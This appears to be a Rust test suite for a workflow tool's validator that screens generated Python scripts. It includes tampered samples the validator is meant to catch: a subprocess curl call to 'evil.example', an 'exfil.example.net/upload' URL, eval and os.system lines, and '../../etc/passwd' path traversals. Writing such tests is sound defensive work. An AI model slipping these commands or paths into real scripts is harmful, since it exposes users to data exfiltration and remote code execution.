use wizflow::core::codegen::CodeGenerator;
use wizflow::core::document::{ActionStep, ActionType, Trigger, TriggerType, WorkflowDocument};
use wizflow::core::validator::{
    check_workspace_path, url_hosts, IssueSeverity, ValidationInput, ValidationIssue,
    ValidationRule, Validator, DYNAMIC_EVALUATION, EMPTY_ACTIONS, IMPORT_NOT_ALLOWED,
    MISSING_PARAMETER, NO_RECOGNIZED_ACTIONS, SYNTAX_ERROR, UNDECLARED_HOST, UNRECOGNIZED_ACTION,
    WORKSPACE_ESCAPE,
};

fn doc(actions: Vec<ActionStep>) -> WorkflowDocument {
    WorkflowDocument::new("sample", Trigger::manual(), actions)
}

fn email(to: &str) -> ActionStep {
    ActionStep::new(ActionType::Email)
        .with_param("to", to)
        .with_param("subject", "hi")
        .with_param("body", "test")
}

fn validate(document: &WorkflowDocument) -> wizflow::core::validator::ValidationReport {
    let script = CodeGenerator::new().generate(document);
    Validator::new().validate(document, &script)
}

#[test]
fn generated_script_for_complete_document_passes() {
    let report = validate(&doc(vec![email("a@b.com")]));
    assert!(report.passed(), "{:?}", report.reasons());
    assert!(report.issues.is_empty());
}

#[test]
fn every_template_generates_clean_code() {
    let document = doc(vec![
        email("a@b.com"),
        ActionStep::new(ActionType::Messaging)
            .with_param("to", "+15550100")
            .with_param("message", "hello"),
        ActionStep::new(ActionType::Web).with_param("url", "https://example.com/api"),
        ActionStep::new(ActionType::Scrape)
            .with_param("url", "https://example.com/news")
            .with_param("selector", "h2.title"),
        ActionStep::new(ActionType::File).with_param("path", "reports/today.txt"),
        ActionStep::new(ActionType::Ai).with_param("text", "{{action_3.text}}"),
        ActionStep::new(ActionType::Data).with_param("message", "done"),
    ]);
    let report = validate(&document);
    assert!(report.passed(), "{:?}", report.reasons());
}

#[test]
fn missing_parameter_fails_closed() {
    let document = doc(vec![ActionStep::new(ActionType::Email).with_param("to", "a@b.com")]);
    let report = validate(&document);

    assert!(!report.passed());
    assert_eq!(
        report
            .errors()
            .filter(|issue| issue.code == MISSING_PARAMETER)
            .count(),
        2
    );
}

#[test]
fn schedule_trigger_requires_cron() {
    let mut document = doc(vec![email("a@b.com")]);
    document.trigger = Trigger {
        kind: TriggerType::Schedule,
        params: Default::default(),
    };
    let report = validate(&document);
    assert!(report.has_code(MISSING_PARAMETER));
    assert!(report
        .errors()
        .any(|issue| issue.location.as_deref() == Some("trigger")));
}

#[test]
fn empty_and_all_unknown_documents_are_rejected() {
    assert!(validate(&doc(vec![])).has_code(EMPTY_ACTIONS));

    let only_unknown = doc(vec![ActionStep::new(ActionType::Custom("teleport".into()))]);
    let report = validate(&only_unknown);
    assert!(report.has_code(NO_RECOGNIZED_ACTIONS));
    assert!(!report.passed());
}

#[test]
fn unknown_action_next_to_known_one_is_a_warning() {
    let document = doc(vec![
        email("a@b.com"),
        ActionStep::new(ActionType::Custom("teleport".into())),
    ]);
    let report = validate(&document);

    assert!(report.passed());
    let warning = report.warnings().next().unwrap();
    assert_eq!(warning.code, UNRECOGNIZED_ACTION);
    assert_eq!(warning.location.as_deref(), Some("actions[1]"));
}

#[test]
fn tampered_source_is_caught() {
    let document = doc(vec![email("a@b.com")]);
    let mut source = CodeGenerator::new().generate(&document).source;
    source.push_str("\nimport subprocess\nsubprocess.run(['curl', 'https://evil.example/x'])\neval('1')\n");

    let report = Validator::new().validate_source(&document, &source);
    assert!(report.has_code(IMPORT_NOT_ALLOWED));
    assert!(report.has_code(DYNAMIC_EVALUATION));
    assert!(report.has_code(UNDECLARED_HOST));
    assert!(!report.passed());
}

#[test]
fn os_system_is_denied_but_regex_compile_is_not() {
    let document = doc(vec![email("a@b.com")]);
    let base = CodeGenerator::new().generate(&document).source;

    let compiled = format!("{}\nPATTERN = re.compile(r\"x+\")\n", base);
    assert!(Validator::new().validate_source(&document, &compiled).passed());

    let shelled = format!("{}\nos.system(\"ls\")\n", base);
    let report = Validator::new().validate_source(&document, &shelled);
    assert!(report.has_code(DYNAMIC_EVALUATION));
}

#[test]
fn broken_syntax_is_reported_with_line() {
    let document = doc(vec![email("a@b.com")]);
    let source = "def broken(:\n    return 1\n";
    let report = Validator::new().validate_source(&document, source);

    let issue = report
        .errors()
        .find(|issue| issue.code == SYNTAX_ERROR)
        .unwrap();
    assert!(issue.location.as_deref().unwrap().starts_with("line "));
}

#[test]
fn declared_web_host_passes_and_unknown_host_does_not() {
    let document = doc(vec![
        ActionStep::new(ActionType::Web).with_param("url", "https://API.Example.com/v1")
    ]);
    let mut source = CodeGenerator::new().generate(&document).source;
    assert!(Validator::new().validate_source(&document, &source).passed());

    source.push_str("\nOTHER = \"https://exfil.example.net/upload\"\n");
    let report = Validator::new().validate_source(&document, &source);
    assert!(report.has_code(UNDECLARED_HOST));
}

#[test]
fn file_paths_must_stay_in_workspace() {
    let document = doc(vec![ActionStep::new(ActionType::File).with_param("path", "../../etc/passwd")]);
    assert!(validate(&document).has_code(WORKSPACE_ESCAPE));

    assert!(check_workspace_path("reports/out.txt").is_ok());
    assert!(check_workspace_path("a/../b.txt").is_ok());
    assert!(check_workspace_path("{{trigger.path}}").is_ok());
    assert!(check_workspace_path("/etc/passwd").is_err());
    assert!(check_workspace_path("~/secrets").is_err());
    assert!(check_workspace_path("C:\\Windows").is_err());
    assert!(check_workspace_path("a/../../b").is_err());
}

#[test]
fn template_paths_check_their_literal_prefix() {
    let escaping = doc(vec![ActionStep::new(ActionType::File).with_param("path", "../../{{name}}")]);
    assert!(validate(&escaping).has_code(WORKSPACE_ESCAPE));

    let contained = doc(vec![ActionStep::new(ActionType::File).with_param("path", "notes/{{name}}.txt")]);
    assert!(!validate(&contained).has_code(WORKSPACE_ESCAPE));
}

#[test]
fn evaluation_inside_f_string_fields_is_denied() {
    let document = doc(vec![email("a@b.com")]);
    let source = format!(
        "{}\nprint(f\"{{eval('1 + 1')}}\")\n",
        CodeGenerator::new().generate(&document).source
    );

    let report = Validator::new().validate_source(&document, &source);
    assert!(report.has_code(DYNAMIC_EVALUATION));
}

#[test]
fn hosts_are_scoped_to_the_declaring_action() {
    let document = doc(vec![
        ActionStep::new(ActionType::Web).with_param("url", "https://api.example.com/v1"),
        ActionStep::new(ActionType::Data).with_param("message", "done"),
    ]);
    let source = CodeGenerator::new().generate(&document).source;
    assert!(Validator::new().validate_source(&document, &source).passed());

    let borrowed = source.replacen(
        "message=\"done\"",
        "message=\"https://api.example.com/steal\"",
        1,
    );
    assert_ne!(borrowed, source);
    let report = Validator::new().validate_source(&document, &borrowed);
    let issue = report
        .errors()
        .find(|issue| issue.code == UNDECLARED_HOST)
        .unwrap();
    assert!(issue.message.starts_with("action 2 contacts host 'api.example.com'"));
}

#[test]
fn url_hosts_are_lowercased_and_templates_skipped() {
    assert_eq!(
        url_hosts("see https://Example.COM/path and http://other.org"),
        vec!["example.com".to_string(), "other.org".to_string()]
    );
    assert!(url_hosts("https://{{host}}/path").is_empty());
}

struct ActionCountRule;

impl ValidationRule for ActionCountRule {
    fn check(&self, input: &ValidationInput<'_>) -> Vec<ValidationIssue> {
        if input.document.actions.len() > 1 {
            vec![ValidationIssue::new(
                "CUSTOM-001",
                IssueSeverity::Info,
                "more than one action",
                None,
            )]
        } else {
            Vec::new()
        }
    }
}

#[test]
fn custom_rules_run_after_built_ins_and_sort_by_severity() {
    let document = doc(vec![
        ActionStep::new(ActionType::Custom("teleport".into())),
        email("a@b.com"),
    ]);
    let script = CodeGenerator::new().generate(&document);
    let report = Validator::new()
        .with_rule(Box::new(ActionCountRule))
        .validate(&document, &script);

    let severities: Vec<IssueSeverity> = report.issues.iter().map(|issue| issue.severity).collect();
    assert_eq!(severities, vec![IssueSeverity::Warning, IssueSeverity::Info]);
    assert!(report.passed());
}
